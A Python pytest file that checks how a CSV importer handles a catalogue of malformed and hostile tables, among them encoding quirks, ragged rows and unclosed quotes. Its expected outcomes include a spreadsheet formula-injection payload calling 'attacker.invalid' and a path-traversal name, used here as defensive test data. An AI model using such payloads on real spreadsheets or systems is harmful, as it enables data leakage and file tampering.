"""The tables of the catalogue of bad input, and real ones, where they are at hand: what comes of each."""

import io
import json
import os
from pathlib import Path

import pytest

from netfiles.errors import CannotRead
from netfiles.exchange.tables.table_in import read_table
from tests.exchange.tables import GUESSED, accounted, quiet, wishes
from tests.hostile.test_catalogue import CATALOGUE

TABLES = CATALOGUE / "csv"
CORPUS = Path(os.environ.get("NETFILES_CORPUS") or CATALOGUE.parent / "corpus") / "csv"

OUTCOMES = {
    "bom.csv": ["Ada L"],
    "cp1252.csv": ["Zoë Müller", "2 not UTF-8: read as Windows-1252, for instance `Zoë`"],
    "cr-only.csv": ["Ada L"],
    "dup-header.csv": ["Ada", "1 more than one column is called `Name`; each is read"],
    "empty.csv": "it is empty: no row names its columns",
    "formula-tab.csv": [
        "=1+1 =1+1",
        "2 E-mail 1 - Value: `=1` is nothing for the field `emails`; it is kept as text",
        "2 Phone 1 - Value: `x` is nothing for the field `phones`; it is kept as text",
    ],
    "formula.csv": [
        '=HYPERLINK("http://attacker.invalid/?"&A1) +1',
        "2 E-mail 1 - Value: `@SUM(1+1)` is nothing for the field `emails`; it is kept as text",
    ],
    "header-only.csv": [],
    "mixed-encodings.csv": "line 3: this line is not UTF-8, unlike line 2",
    "multiline-cell.csv": ["Ada L"],
    "name-traversal.csv": ["../../../tmp/pwn x", ".. .", "CON"],
    "name-yaml.csv": ["Ada private: false --- : {x}"],
    "nul.csv": "line 2: it is not text: there is a NUL in it",
    "ragged.csv": [
        "Ada",
        "Bob B",
        "2 the row has 1 of 5 cells; the others count as empty",
        "3 the row has 7 cells, 2 more than there are columns; they are kept",
        "1 1 blank row is passed over",
    ],
    "same-twice.csv": ["Ada L", "Ada L"],
    "semicolon.csv": ["Ada L"],
    "unclosed-quote.csv": "line 2: a quote is opened on this line and never closed",
    "unknown-header.csv": "line 1: no column is the name of a person; the columns are `foo`, `bar`",
    "utf16.csv": ["Zoë L"],
}


def came_of(content: bytes, name: str) -> list[str] | str:
    """The names and remarks that came of a table, or why it is refused; every row is accounted for."""
    try:
        incoming = read_table(io.BytesIO(content), name, wishes(bodies=True), quiet)
    except CannotRead as refused:
        return str(refused)
    assert accounted(incoming) == incoming.rows
    said = [f"{left.line} {left.message}" for left in incoming.left if not left.message.startswith(GUESSED)]
    return [person.name for person in incoming.people] + said


@pytest.mark.skipif(not TABLES.is_dir(), reason="the catalogue of bad input is not here: NETFILES_BADINPUT")
@pytest.mark.parametrize("name", OUTCOMES)
def test_the_catalogue_has_its_outcomes(name: str) -> None:
    found, expected = came_of((TABLES / name).read_bytes(), name), OUTCOMES[name]
    if isinstance(expected, str):
        assert isinstance(found, str)
        assert expected in found
    else:
        assert found == expected


@pytest.mark.skipif(not TABLES.is_dir(), reason="the catalogue of bad input is not here: NETFILES_BADINPUT")
def test_the_catalogue_holds_no_other_table() -> None:
    assert {path.name for path in TABLES.iterdir()} == OUTCOMES.keys()


def real() -> list[Path]:
    return sorted(CORPUS.rglob("*.csv")) if CORPUS.is_dir() else []


@pytest.mark.skipif(not real(), reason="the corpus is not here: NETFILES_CORPUS")
@pytest.mark.parametrize("path", real(), ids=lambda path: path.name)
def test_a_real_table_is_accounted_for_or_refused_with_a_reason(path: Path) -> None:
    found = came_of(path.read_bytes(), path.name)
    told = ("Connections", "MessagesThreads")
    assert isinstance(found, str) is not any(word in path.name for word in told)


@pytest.mark.skipif(not real(), reason="the corpus is not here: NETFILES_CORPUS")
def test_the_malformed_tables_of_the_corpus_are_read_or_refused() -> None:
    path = next(CORPUS.rglob("*malformed-csv-outcomes.json"))
    cases = json.loads(path.read_text(encoding="utf-8"))["cases"]
    assert cases
    for case in cases:
        came_of(case["csv"].encode("utf-8", "replace"), case["id"])
